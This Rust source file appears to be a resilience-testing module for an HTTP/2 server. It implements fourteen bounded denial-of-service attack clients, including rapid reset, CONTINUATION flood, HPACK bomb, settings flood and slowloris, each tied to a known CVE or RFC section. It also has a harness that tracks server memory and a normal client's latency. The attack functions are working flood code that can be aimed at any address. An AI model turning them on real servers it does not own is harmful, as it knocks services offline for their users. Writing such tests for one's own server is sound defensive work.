//! Known HTTP/2 attacks on a server, each as a bounded client (issue 9 §1).
//!
//! Every attack runs until the server reacts or its budget (frames, bytes, seconds) is spent,
//! and reports what the server did: a GOAWAY (with its code — ENHANCE_YOUR_CALM is the
//! convention for floods), a plain close, TCP back-pressure (the server stopped reading: the
//! flood cannot grow its queues), stream resets, or nothing. Whether that is good enough, and
//! what the server's memory and its other clients saw meanwhile, is for the caller to judge —
//! the attack tests of h2mux assert it against `h2mux serve`.
//!
//! | attack | reference |
//! |---|---|
//! | data dribble | CVE-2019-9511 |
//! | ping flood | CVE-2019-9512 |
//! | priority resource loop | CVE-2019-9513 |
//! | reset flood | CVE-2019-9514 |
//! | settings flood | CVE-2019-9515 |
//! | zero-length headers | CVE-2019-9516 |
//! | internal data buffering | CVE-2019-9517 |
//! | empty frames flood | CVE-2019-9518 |
//! | rapid reset | CVE-2023-44487 |
//! | MadeYouReset (peer provokes our resets) | CVE-2025-8671 |
//! | CONTINUATION flood | VU#421644 (2024) |
//! | HPACK bomb | RFC 7541 §7.3, RFC 9113 §10.5.1 |
//! | slowloris on the preface | RFC 9113 §10.5 |
//! | connection flood | RFC 9113 §10.5 |

use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use h2mux_wire::ErrorCode;

use crate::conn::{
    flag, frame, kind, setting, settings_payload, Conn, Observed, SendOutcome, PREFACE,
};
use crate::hpack_lite;

/// How the server reacted to an attack.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Reaction {
    /// It sent GOAWAY with this code (and, usually, closed).
    Goaway(ErrorCode),
    /// It closed the connection without a GOAWAY.
    Closed,
    /// It stopped reading: our writes blocked (its queues cannot grow).
    Throttled,
    /// It reset this many of the attack's streams and kept the connection.
    ResetStreams(u64),
    /// It did nothing visible within the budget.
    Nothing,
}

/// The result of one attack.
#[derive(Debug, Clone)]
pub struct AttackReport {
    /// Attack name.
    pub name: &'static str,
    /// How the server reacted.
    pub reaction: Reaction,
    /// Frames the attacker wrote before the reaction (or the budget) stopped it.
    pub frames_sent: u64,
    /// Bytes the attacker wrote.
    pub bytes_sent: u64,
    /// How long the attack ran.
    pub elapsed: Duration,
}

/// Limits that keep every attack bounded.
#[derive(Debug, Clone, Copy)]
pub struct Budget {
    /// Most frames an attack writes.
    pub max_frames: u64,
    /// Longest an attack runs.
    pub max_time: Duration,
    /// How long a write may block before the server counts as throttling us.
    pub write_patience: Duration,
    /// How long to wait for the server's verdict after the flood.
    pub verdict_timeout: Duration,
}

impl Default for Budget {
    fn default() -> Self {
        Budget {
            max_frames: 1_000_000,
            max_time: Duration::from_secs(10),
            write_patience: Duration::from_millis(500),
            verdict_timeout: Duration::from_secs(3),
        }
    }
}

/// An attack: runs against a server address within a budget.
pub type Attack = fn(SocketAddr, &Budget) -> AttackReport;

/// Every attack by name, as `(name, run)`.
pub fn all() -> Vec<(&'static str, Attack)> {
    vec![
        ("data-dribble", data_dribble),
        ("ping-flood", ping_flood),
        ("priority-loop", priority_loop),
        ("reset-flood", reset_flood),
        ("settings-flood", settings_flood),
        ("zero-length-headers", zero_length_headers),
        ("internal-data-buffering", internal_data_buffering),
        ("empty-frames", empty_frames),
        ("rapid-reset", rapid_reset),
        ("made-you-reset", made_you_reset),
        ("continuation-flood", continuation_flood),
        ("hpack-bomb", hpack_bomb),
        ("slowloris-preface", slowloris_preface),
        ("connection-flood", connection_flood),
    ]
}

fn connect(addr: SocketAddr, settings: &[(u16, u32)]) -> Option<Conn> {
    let mut c = Conn::connect(addr, &addr.to_string(), Duration::from_secs(3)).ok()?;
    c.handshake(settings).ok()?;
    Some(c)
}

fn setup_failed(name: &'static str) -> AttackReport {
    AttackReport {
        name,
        reaction: Reaction::Closed,
        frames_sent: 0,
        bytes_sent: 0,
        elapsed: Duration::ZERO,
    }
}

/// Writes batches from `batch(i)` (each `frames_per_batch` frames) until the budget is spent,
/// the server blocks us or closes; then reads the server's verdict.
fn flood(
    name: &'static str,
    c: &mut Conn,
    budget: &Budget,
    frames_per_batch: u64,
    mut batch: impl FnMut(u64) -> Vec<u8>,
) -> AttackReport {
    let started = Instant::now();
    let (mut frames, mut bytes, mut i) = (0u64, 0u64, 0u64);
    let mut stopped = None;
    while frames < budget.max_frames && started.elapsed() < budget.max_time {
        let b = batch(i);
        i += 1;
        match c.send_bounded(&b, budget.write_patience) {
            SendOutcome::Sent => {
                frames += frames_per_batch;
                bytes += b.len() as u64;
            }
            SendOutcome::Blocked => {
                stopped = Some(Reaction::Throttled);
                break;
            }
            SendOutcome::Closed => {
                stopped = Some(Reaction::Closed);
                break;
            }
        }
    }
    let reaction = verdict(c, budget, stopped);
    AttackReport {
        name,
        reaction,
        frames_sent: frames,
        bytes_sent: bytes,
        elapsed: started.elapsed(),
    }
}

/// Reads what the server sent: a GOAWAY wins over everything; then a close; then what the
/// flood saw (throttled); then stream resets; else nothing.
fn verdict(c: &mut Conn, budget: &Budget, during_flood: Option<Reaction>) -> Reaction {
    let deadline = Instant::now() + budget.verdict_timeout;
    let mut resets = 0u64;
    loop {
        match c.read_frame_until(deadline) {
            Observed::Frame(f) if f.kind == kind::GOAWAY => {
                return Reaction::Goaway(f.error_code().unwrap_or(ErrorCode::NO_ERROR));
            }
            Observed::Frame(f) if f.kind == kind::RST_STREAM => resets += 1,
            Observed::Frame(_) => {}
            Observed::Closed => return Reaction::Closed,
            Observed::Timeout => break,
        }
    }
    match during_flood {
        Some(r) => r,
        None if resets > 0 => Reaction::ResetStreams(resets),
        None => Reaction::Nothing,
    }
}

fn request(c: &Conn, path: &str, end_stream: bool, stream: u32) -> Vec<u8> {
    let mut block = Vec::new();
    for (n, v) in [
        (":method", if end_stream { "GET" } else { "POST" }),
        (":scheme", "http"),
        (":path", path),
    ] {
        hpack_lite::literal(&mut block, n.as_bytes(), v.as_bytes());
    }
    hpack_lite::literal(&mut block, b":authority", c.authority.as_bytes());
    let flags = flag::END_HEADERS | if end_stream { flag::END_STREAM } else { 0 };
    frame(kind::HEADERS, flags, stream, &block)
}

/// A large response to ask for: `h2mux serve` streams `/bytes/N`; other servers answer
/// something (a 404 body at least), which is all the attack needs.
const LARGE_PATH: &str = "/bytes/1073741824";

/// CVE-2019-9511: many streams asking for large responses through 1-octet windows opened one
/// octet at a time, so a naive server queues the whole response in tiny chunks.
pub fn data_dribble(addr: SocketAddr, budget: &Budget) -> AttackReport {
    let Some(mut c) = connect(addr, &[(setting::INITIAL_WINDOW_SIZE, 1)]) else {
        return setup_failed("data-dribble");
    };
    let mut open = Vec::new();
    for i in 0..100u32 {
        open.extend(request(&c, LARGE_PATH, true, 2 * i + 1));
    }
    c.send_bytes(&open);
    flood("data-dribble", &mut c, budget, 100, |_| {
        let mut b = Vec::new();
        for i in 0..100u32 {
            b.extend(frame(
                kind::WINDOW_UPDATE,
                0,
                2 * i + 1,
                &1u32.to_be_bytes(),
            ));
        }
        b
    })
}

/// CVE-2019-9512: PINGs as fast as possible, never reading the ACKs.
pub fn ping_flood(addr: SocketAddr, budget: &Budget) -> AttackReport {
    let Some(mut c) = connect(addr, &[]) else {
        return setup_failed("ping-flood");
    };
    flood("ping-flood", &mut c, budget, 1000, |i| {
        let mut b = Vec::with_capacity(17_000);
        for j in 0..1000u64 {
            b.extend(frame(kind::PING, 0, 0, &(i * 1000 + j).to_be_bytes()));
        }
        b
    })
}

/// CVE-2019-9513: PRIORITY frames that keep reshuffling a dependency tree into cycles.
pub fn priority_loop(addr: SocketAddr, budget: &Budget) -> AttackReport {
    let Some(mut c) = connect(addr, &[]) else {
        return setup_failed("priority-loop");
    };
    flood("priority-loop", &mut c, budget, 1000, |i| {
        let mut b = Vec::new();
        for j in 0..1000u32 {
            let s = 2 * ((j + i as u32) % 200) + 1;
            let dep = 2 * ((j + i as u32 + 1) % 200) + 1;
            b.extend(frame(
                kind::PRIORITY,
                0,
                s,
                &[&(dep | 0x8000_0000).to_be_bytes()[..], &[255]].concat(),
            ));
        }
        b
    })
}

/// CVE-2019-9514: malformed requests that each make the server send RST_STREAM, never
/// reading the resets.
pub fn reset_flood(addr: SocketAddr, budget: &Budget) -> AttackReport {
    let Some(mut c) = connect(addr, &[]) else {
        return setup_failed("reset-flood");
    };
    let authority = c.authority.clone();
    flood("reset-flood", &mut c, budget, 100, move |i| {
        let mut b = Vec::new();
        for j in 0..100u64 {
            let id = (2 * (i * 100 + j) + 1) as u32;
            let block = hpack_lite::block(&[
                (":method", "GET"),
                (":scheme", "http"),
                (":path", "/"),
                (":authority", &authority),
                ("X-Upper", "malformed"),
            ]);
            b.extend(frame(
                kind::HEADERS,
                flag::END_HEADERS | flag::END_STREAM,
                id,
                &block,
            ));
        }
        b
    })
}

/// CVE-2019-9515: SETTINGS frames as fast as possible, never reading the ACKs.
pub fn settings_flood(addr: SocketAddr, budget: &Budget) -> AttackReport {
    let Some(mut c) = connect(addr, &[]) else {
        return setup_failed("settings-flood");
    };
    flood("settings-flood", &mut c, budget, 1000, |_| {
        let one = frame(
            kind::SETTINGS,
            0,
            0,
            &settings_payload(&[(setting::MAX_CONCURRENT_STREAMS, 100)]),
        );
        one.repeat(1000)
    })
}

/// CVE-2019-9516: header blocks of many empty names and values (each costs the server 32
/// octets of accounting and nothing on the wire but 3 octets).
pub fn zero_length_headers(addr: SocketAddr, budget: &Budget) -> AttackReport {
    let Some(mut c) = connect(addr, &[]) else {
        return setup_failed("zero-length-headers");
    };
    let authority = c.authority.clone();
    flood("zero-length-headers", &mut c, budget, 1, move |i| {
        let mut block = hpack_lite::block(&[
            (":method", "GET"),
            (":scheme", "http"),
            (":path", "/"),
            (":authority", &authority),
        ]);
        for _ in 0..4000 {
            block.extend_from_slice(&[0x00, 0x00, 0x00]);
        }
        frame(
            kind::HEADERS,
            flag::END_HEADERS | flag::END_STREAM,
            (2 * i + 1) as u32,
            &block,
        )
    })
}

/// CVE-2019-9517: open every flow-control window wide, ask for large responses, and never
/// read from the socket, so the server's writes pile up in its own buffers.
pub fn internal_data_buffering(addr: SocketAddr, budget: &Budget) -> AttackReport {
    let started = Instant::now();
    let Some(mut c) = connect(addr, &[(setting::INITIAL_WINDOW_SIZE, (1 << 31) - 1)]) else {
        return setup_failed("internal-data-buffering");
    };
    let mut b = frame(
        kind::WINDOW_UPDATE,
        0,
        0,
        &((1u32 << 31) - 1 - 65_535).to_be_bytes(),
    );
    for i in 0..100u32 {
        b.extend(request(&c, LARGE_PATH, true, 2 * i + 1));
    }
    let frames = 101;
    let bytes = b.len() as u64;
    c.send_bytes(&b);
    // Never read: just wait out the budget, then see whether the connection survived.
    std::thread::sleep(budget.max_time.min(Duration::from_secs(5)));
    let reaction = verdict(
        &mut c,
        &Budget {
            verdict_timeout: Duration::from_millis(200),
            ..*budget
        },
        None,
    );
    AttackReport {
        name: "internal-data-buffering",
        reaction,
        frames_sent: frames,
        bytes_sent: bytes,
        elapsed: started.elapsed(),
    }
}

/// CVE-2019-9518: empty DATA frames (no payload, no END_STREAM) on an open stream.
pub fn empty_frames(addr: SocketAddr, budget: &Budget) -> AttackReport {
    let Some(mut c) = connect(addr, &[]) else {
        return setup_failed("empty-frames");
    };
    let open = request(&c, "/", false, 1);
    c.send_bytes(&open);
    flood("empty-frames", &mut c, budget, 1000, |_| {
        frame(kind::DATA, 0, 1, &[]).repeat(1000)
    })
}

/// CVE-2023-44487: open a stream and reset it at once, over and over.
pub fn rapid_reset(addr: SocketAddr, budget: &Budget) -> AttackReport {
    stream_churn("rapid-reset", addr, budget, true, |id| {
        frame(kind::RST_STREAM, 0, id, &ErrorCode::CANCEL.0.to_be_bytes())
    })
}

/// CVE-2025-8671 (MadeYouReset): valid streams followed by a frame that obliges the server to
/// reset them (a zero WINDOW_UPDATE increment), so the reset counts as the server's own.
pub fn made_you_reset(addr: SocketAddr, budget: &Budget) -> AttackReport {
    stream_churn("made-you-reset", addr, budget, false, |id| {
        frame(kind::WINDOW_UPDATE, 0, id, &0u32.to_be_bytes())
    })
}

/// Opens streams 100 at a time (GET with END_STREAM or an open POST), each followed at once
/// by `then(stream_id)`.
fn stream_churn(
    name: &'static str,
    addr: SocketAddr,
    budget: &Budget,
    end_stream: bool,
    then: fn(u32) -> Vec<u8>,
) -> AttackReport {
    let Some(mut c) = connect(addr, &[]) else {
        return setup_failed(name);
    };
    let template = request(&c, "/", end_stream, 1);
    flood(name, &mut c, budget, 200, move |i| {
        let mut b = Vec::new();
        for j in 0..100u64 {
            let id = (2 * (i * 100 + j) + 1) as u32;
            let mut h = template.clone();
            h[5..9].copy_from_slice(&id.to_be_bytes());
            b.extend(h);
            b.extend(then(id));
        }
        b
    })
}

/// The 2024 CONTINUATION flood: a HEADERS frame without END_HEADERS followed by endless
/// CONTINUATION frames, never ending the block.
pub fn continuation_flood(addr: SocketAddr, budget: &Budget) -> AttackReport {
    let Some(mut c) = connect(addr, &[]) else {
        return setup_failed("continuation-flood");
    };
    let authority = c.authority.clone();
    let block = hpack_lite::block(&[
        (":method", "GET"),
        (":scheme", "http"),
        (":path", "/"),
        (":authority", &authority),
    ]);
    c.send(kind::HEADERS, flag::END_STREAM, 1, &block);
    let mut filler = Vec::new();
    hpack_lite::literal(&mut filler, b"x-filler", &[b'a'; 1000]);
    flood("continuation-flood", &mut c, budget, 10, move |_| {
        frame(kind::CONTINUATION, 0, 1, &filler).repeat(10)
    })
}

/// HPACK bomb: one 4 000-octet dynamic table entry, then header blocks that reference it
/// thousands of times (one octet each), so each block decodes to megabytes.
pub fn hpack_bomb(addr: SocketAddr, budget: &Budget) -> AttackReport {
    let Some(mut c) = connect(addr, &[]) else {
        return setup_failed("hpack-bomb");
    };
    let authority = c.authority.clone();
    flood("hpack-bomb", &mut c, budget, 1, move |i| {
        let mut block = hpack_lite::block(&[
            (":method", "GET"),
            (":scheme", "http"),
            (":path", "/"),
            (":authority", &authority),
        ]);
        if i == 0 {
            // Literal with incremental indexing, new name: becomes dynamic index 62.
            block.push(0x40);
            hpack_lite::string(&mut block, b"x-bomb");
            hpack_lite::string(&mut block, &[b'b'; 4000]);
        }
        block.extend(std::iter::repeat_n(0xbe, 8000)); // 8 000 × indexed 62 ≈ 32 MB decoded
        frame(
            kind::HEADERS,
            flag::END_HEADERS | flag::END_STREAM,
            (2 * i + 1) as u32,
            &block,
        )
    })
}

/// Slowloris on the preface: one octet of the client preface every 500 ms. A server must
/// close such a connection after a bounded time.
pub fn slowloris_preface(addr: SocketAddr, budget: &Budget) -> AttackReport {
    let started = Instant::now();
    let Ok(mut c) = Conn::connect(addr, &addr.to_string(), Duration::from_millis(500)) else {
        return setup_failed("slowloris-preface");
    };
    // Never write anything but the dribbled preface (no SETTINGS ACK either).
    c.auto_ack_settings = false;
    let deadline = started + budget.max_time.max(Duration::from_secs(30));
    let mut sent = 0u64;
    let mut reaction = Reaction::Nothing;
    'dribble: for byte in PREFACE.iter() {
        if c.send_bounded(&[*byte], budget.write_patience) != SendOutcome::Sent {
            reaction = Reaction::Closed;
            break;
        }
        sent += 1;
        // Wait 500 ms, watching for the server giving up on us.
        let pause = Instant::now() + Duration::from_millis(500);
        loop {
            match c.read_frame_until(pause) {
                Observed::Frame(f) if f.kind == kind::GOAWAY => {
                    reaction = Reaction::Goaway(f.error_code().unwrap_or(ErrorCode::NO_ERROR));
                    break 'dribble;
                }
                Observed::Closed => {
                    reaction = Reaction::Closed;
                    break 'dribble;
                }
                Observed::Frame(_) => {}
                Observed::Timeout => break,
            }
        }
    }
    // Preface done (slowly) and no SETTINGS: wait for the server's handshake timeout.
    while reaction == Reaction::Nothing && Instant::now() < deadline {
        match c.read_frame_until(deadline) {
            Observed::Frame(f) if f.kind == kind::GOAWAY => {
                reaction = Reaction::Goaway(f.error_code().unwrap_or(ErrorCode::NO_ERROR))
            }
            Observed::Closed => reaction = Reaction::Closed,
            Observed::Frame(_) => {}
            Observed::Timeout => break,
        }
    }
    AttackReport {
        name: "slowloris-preface",
        reaction,
        frames_sent: sent,
        bytes_sent: sent,
        elapsed: started.elapsed(),
    }
}

/// Connection flood: up to 2 000 idle TCP connections that never send a byte. Reports
/// `Closed` when the server closed (or refused) all but a bounded number of them within the
/// budget, `Nothing` when all stayed open. `frames_sent` is the number of connections opened.
pub fn connection_flood(addr: SocketAddr, budget: &Budget) -> AttackReport {
    let started = Instant::now();
    let mut conns = Vec::new();
    let mut refused = 0u64;
    for _ in 0..2000 {
        match TcpStream::connect_timeout(&addr, Duration::from_millis(500)) {
            Ok(s) => conns.push(s),
            Err(_) => refused += 1,
        }
        if started.elapsed() > budget.max_time {
            break;
        }
    }
    let opened = conns.len() as u64;
    // Wait for the server's idle/handshake timeout, then count survivors.
    let deadline = started + budget.max_time.max(Duration::from_secs(15));
    let mut alive = opened;
    while Instant::now() < deadline && alive > 0 {
        std::thread::sleep(Duration::from_millis(500));
        alive = conns.iter().filter(|s| still_open(s)).count() as u64;
    }
    let reaction = if alive == 0 || refused > 0 {
        Reaction::Closed
    } else {
        Reaction::Nothing
    };
    AttackReport {
        name: "connection-flood",
        reaction,
        frames_sent: opened + refused,
        bytes_sent: 0,
        elapsed: started.elapsed(),
    }
}

/// True while the peer has not closed `s` (a zero-length peek or an error means closed; the
/// server's SETTINGS preface may be waiting to be read, which still means open).
fn still_open(s: &TcpStream) -> bool {
    if s.set_nonblocking(true).is_err() {
        return false;
    }
    let mut buf = [0u8; 1];
    let open = match s.peek(&mut buf) {
        Ok(0) => false,
        Ok(_) => {
            // Drain what the server sent so a close behind it becomes visible next time.
            let mut sink = [0u8; 4096];
            let _ = std::io::Read::read(&mut &*s, &mut sink);
            true
        }
        Err(e) => e.kind() == std::io::ErrorKind::WouldBlock,
    };
    let _ = s.set_nonblocking(false);
    open
}

/// A well-behaved client running beside an attack: GET `/` on one connection, one request at
/// a time, until `stop`; returns each request's latency (None for a request that failed).
pub fn well_behaved_client(
    addr: SocketAddr,
    stop: &std::sync::atomic::AtomicBool,
) -> Vec<Option<Duration>> {
    let mut out = Vec::new();
    let mut conn = connect(addr, &[]);
    let mut stream = 1u32;
    while !stop.load(std::sync::atomic::Ordering::Relaxed) && out.len() < 100_000 {
        let Some(c) = conn.as_mut() else {
            out.push(None);
            std::thread::sleep(Duration::from_millis(100));
            conn = connect(addr, &[]);
            stream = 1;
            continue;
        };
        let t = Instant::now();
        c.open_stream(stream, true);
        let mut ok = false;
        let deadline = t + Duration::from_secs(5);
        loop {
            match c.read_frame_until(deadline) {
                Observed::Frame(f) if f.stream == stream && f.flags & flag::END_STREAM != 0 => {
                    ok = f.kind == kind::HEADERS || f.kind == kind::DATA;
                    break;
                }
                Observed::Frame(f) if f.kind == kind::DATA && f.stream == stream => {
                    // Give the window back so long bodies keep flowing.
                    let n = (f.payload.len() as u32).to_be_bytes();
                    c.send(kind::WINDOW_UPDATE, 0, 0, &n);
                    c.send(kind::WINDOW_UPDATE, 0, stream, &n);
                }
                Observed::Frame(f)
                    if f.kind == kind::GOAWAY
                        || (f.kind == kind::RST_STREAM && f.stream == stream) =>
                {
                    break
                }
                Observed::Frame(_) => {}
                Observed::Closed | Observed::Timeout => break,
            }
        }
        if ok {
            out.push(Some(t.elapsed()));
            stream += 2;
            std::thread::sleep(Duration::from_millis(20));
        } else {
            out.push(None);
            conn = None;
        }
    }
    out
}

/// Resident memory of process `pid` in KiB (Linux `/proc/<pid>/status`, `VmRSS`).
pub fn rss_kib(pid: u32) -> Option<u64> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    status
        .lines()
        .find(|l| l.starts_with("VmRSS:"))?
        .split_whitespace()
        .nth(1)?
        .parse()
        .ok()
}

/// An attack run beside a well-behaved client, with the server's memory watched.
#[derive(Debug, Clone)]
pub struct Watched {
    /// The attack's own report.
    pub report: AttackReport,
    /// Server RSS before the attack (KiB).
    pub rss_before_kib: u64,
    /// Highest server RSS seen during the attack (KiB).
    pub rss_peak_kib: u64,
    /// Latencies of the well-behaved client's requests during the attack (None: failed).
    pub good_client: Vec<Option<Duration>>,
}

impl Watched {
    /// RSS growth during the attack, in KiB.
    pub fn rss_growth_kib(&self) -> u64 {
        self.rss_peak_kib.saturating_sub(self.rss_before_kib)
    }
    /// Requests of the well-behaved client that failed.
    pub fn good_failures(&self) -> usize {
        self.good_client.iter().filter(|l| l.is_none()).count()
    }
    /// Slowest successful request of the well-behaved client.
    pub fn good_max_latency(&self) -> Option<Duration> {
        self.good_client.iter().flatten().max().copied()
    }
}

/// Runs `attack` against the server process `pid` listening on `addr`, with a well-behaved
/// client on a second connection and the server's RSS sampled every 50 ms.
pub fn run_watched(pid: u32, addr: SocketAddr, attack: Attack, budget: &Budget) -> Watched {
    use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
    use std::sync::Arc;
    let rss_before_kib = rss_kib(pid).unwrap_or(0);
    let stop = Arc::new(AtomicBool::new(false));
    let peak = Arc::new(AtomicU64::new(rss_before_kib));
    let sampler = {
        let (stop, peak) = (stop.clone(), peak.clone());
        std::thread::spawn(move || {
            while !stop.load(Ordering::Relaxed) {
                if let Some(r) = rss_kib(pid) {
                    peak.fetch_max(r, Ordering::Relaxed);
                }
                std::thread::sleep(Duration::from_millis(50));
            }
        })
    };
    let good = {
        let stop = stop.clone();
        std::thread::spawn(move || well_behaved_client(addr, &stop))
    };
    let report = attack(addr, budget);
    // Let the server settle, then stop the helpers.
    std::thread::sleep(Duration::from_millis(200));
    stop.store(true, Ordering::Relaxed);
    let _ = sampler.join();
    let good_client = good.join().unwrap_or_default();
    Watched {
        report,
        rss_before_kib,
        rss_peak_kib: peak.load(Ordering::Relaxed),
        good_client,
    }
}
